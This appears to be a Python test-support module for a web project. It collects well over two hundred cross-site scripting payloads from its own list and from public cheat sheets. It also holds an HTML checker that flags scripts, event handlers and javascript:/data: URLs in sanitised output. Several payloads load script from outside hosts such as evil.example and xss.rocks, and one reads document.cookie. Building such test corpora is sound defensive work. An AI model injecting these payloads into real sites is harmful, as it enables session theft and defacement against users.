"""Script-injection payloads: tags, event handlers, javascript:/data: URLs in many
cases and encodings, broken markup and attribute breakouts.

`BASE` is the project's own first list; `PUBLIC` adds vectors from the well-known public
lists: the OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet (event
handlers that fire without interaction, tags browsers still honour) and the HTML5
Security Cheatsheet (html5sec.org: parser quirks, mXSS, SVG/MathML namespaces). Used by
tests/comments/test_xss.py (comments) and tests/security/test_hostile_corpus.py (every
other field a person can type into).
"""

import re
from html.parser import HTMLParser

BASE = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\t=\talert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=JaVaScRiPt:alert(1)>click</a>",
    "<a href='&#106;avascript:alert(1)'>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "<a href='java&#x09;script:alert(1)'>click</a>",
    "<a href=' javascript:alert(1)'>click</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://example.com/"onmouseover="alert(1)',
    "https://example.com/'onmouseover='alert(1)",
    "https://example.com/<script>alert(1)</script>",
    'https://example.com/?q="><script>alert(1)</script>',
    'https://example.com/"><img src=x onerror=alert(1)>',
    "http://x.example/`onmouseover=alert(1)",
    "https://javascript:alert(1)@example.com",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x onclick=alert(1)>click",
    "<a onmouseover=alert(1)>hover</a>",
    "<div onpointerover=alert(1)>x</div>",
    "<img src=x onerror=alert`1`>",
    "<img src='x' onerror='alert(String.fromCharCode(88,83,83))'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</script>".replace("\x00", ""),
    "<script\n>alert(1)</script\n>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<a\nhref=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "{{ request.user }}{% csrf_token %}",
    "${alert(1)}",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "<a href=https://ok.example/ onclick=alert(1)>ok</a>",
    "www.example.com/<script>alert(1)</script>",
    "https://example.com/#<img src=x onerror=alert(1)>",
    "https://example.com/ <script>alert(1)</script>",
    "https://example.com/&quot;onmouseover=&quot;alert(1)",
    "https://example.com/&#34;onmouseover=alert(1)",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<a href="\x01javascript:alert(1)">x</a>'.replace("\x01", ""),
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
]

PUBLIC = [
    # OWASP XSS Filter Evasion Cheat Sheet
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAv'
    'c3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" type="image/svg+xml" AllowScriptAccess='
    '"always"></EMBED>',
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
    '<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>',
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    # PortSwigger XSS cheat sheet: events without interaction, and tags still honoured
    '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)">',
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<body onpageshow=alert(1)>",
    "<svg><animate onend=alert(1) attributeName=x dur=1s>",
    "<video autoplay onplay=alert(1)><source src=x></video>",
    "<audio autoplay onloadstart=alert(1)><source src=x></audio>",
    "<img src=1 onloadstart=alert(1)>",
    "<input autofocus onfocusin=alert(1)>",
    "<xss onbeforescriptexecute=alert(1)><script>1</script>",
    "<style onload=alert(1)></style>",
    "<object data=# onerror=alert(1)>",
    "<xss oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    "<a id=x tabindex=1 onbeforeinput=alert(1) contenteditable>x</a>",
    "<xss popover id=x onbeforetoggle=alert(1)>XSS</xss><button popovertarget=x>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text>",
    '<math><x href="javascript:alert(1)">blah</x>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" />",
    '<iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>',
    "<form><button formaction=javascript:alert(1)>XSS</button>",
    "<isindex action=javascript:alert(1) type=submit value=click>",
    '<a href="&#14;javascript:alert(1)">XSS</a>',
    '<a href="javascript&#x3a;alert(1)">XSS</a>',
    '<a href="&#x6a;avascript:alert(1)">XSS</a>',
    '<a href="%6a%61%76%61%73%63%72%69%70%74:alert(1)">XSS</a>',
    "<script>eval('\\u'+'0061'+'lert(1)')</script>",
    "<img src=x onerror=location=atob`amF2YXNjcmlwdDphbGVydChkb2N1bWVudC5kb21haW4p`>",
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
    '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
    '<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>',
    # HTML5 Security Cheatsheet (html5sec.org) and mutation XSS
    '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
    "<input onfocus=write(1) autofocus>",
    "<input onblur=write(1) autofocus><input autofocus>",
    "<video poster=javascript:alert(1)//></video>",
    "<body onscroll=alert(1)><br><br><br><br><br><br>...<br><br><br><br><input autofocus>",
    '<form><button formaction="javascript:alert(1)">X</button>',
    '<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C%2Fscript%3E"></iframe>',
    '<svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:alert(1)"></g></svg>',
    "<svg><style>&lt;img/src=x onerror=alert(1)// </b>",
    '<math><a xlink:href="javascript:alert(1)">click</a></math>',
    '<div style="x:expression(alert(1))">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    '<![><img src="]><img src=x onerror=alert(1)//">',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>',
    '<style><img src="</style><img src=x onerror=alert(1)//">',
    "<li style=list-style:url() onerror=alert(1)></li>",
    "<div style=content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden onload=alert(1)>",
    '<head><base href="javascript://"/></head><body><a href="/. /,alert(1)//#">XXX</a>',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<x style="behavior:url(#default#time2)" onbegin="alert(1)">',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="javascript\x3aalert(1)">x</a>',
    "<svg><script xlink:href=data:,alert(1) />",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=alert(1)>"></style></h1>',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<table><caption><svg><foreignobject><p><style><img src=x onerror=alert(1)>",
    '<a href="java\0script:alert(1)">x</a>'.replace("\0", ""),
    '<a href="javas&Tab;cript:alert(1)">x</a>',
    '<a href="javas&NewLine;cript:alert(1)">x</a>',
    '<a href="jav\u0000ascript:alert(1)">x</a>'.replace("\u0000", ""),
    "<img src=x onerror=alert(1)//" + "a" * 300,
]


def payloads():
    return list(dict.fromkeys(BASE + PUBLIC))


# -- What must never come out ------------------------------------------------------

BAD_SCHEME = re.compile(r"^\s*(javascript|data|vbscript)\s*:", re.IGNORECASE)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcdoc", "data", "poster"}
NEVER = {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}
SCRIPT_TYPES = {"application/ld+json", "application/json"}


class Checker(HTMLParser):
    """Collects everything that could run: scripts, handlers, dangerous URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.in_script = None
        self.ugc_links = 0

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script":
            kind = (attributes.get("type") or "").lower()
            src = attributes.get("src") or ""
            if src and not (src.startswith("/") and not src.startswith("//")):
                self.problems.append(f"external script {src!r}")
            if not src and kind not in SCRIPT_TYPES:
                self.problems.append("inline script element")
            self.in_script = kind
        if tag in NEVER:
            self.problems.append(f"<{tag}> element")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.problems.append("meta refresh")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}={value!r} on <{tag}>")
            if name in URL_ATTRIBUTES and value and BAD_SCHEME.match(value):
                self.problems.append(f"{name}={value!r} on <{tag}>")
        if tag == "a" and "ugc" in (attributes.get("rel") or ""):
            self.ugc_links += 1
            if not re.match(r"^https?://", attributes.get("href") or ""):
                self.problems.append(f"reader link to {attributes.get('href')!r}")

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = None

    def handle_data(self, data):
        if self.in_script in SCRIPT_TYPES and "</" in data.replace("<\\/", ""):
            self.problems.append("markup inside a data script")


def check(html):
    checker = Checker()
    # The standard library's parser gives up on a bogus "<![" declaration, which a
    # browser reads as a comment: read it as text (and what follows as markup).
    checker.feed(html.replace("<![", "&lt;!["))
    checker.close()
    assert not checker.problems, checker.problems[:10]
    return checker
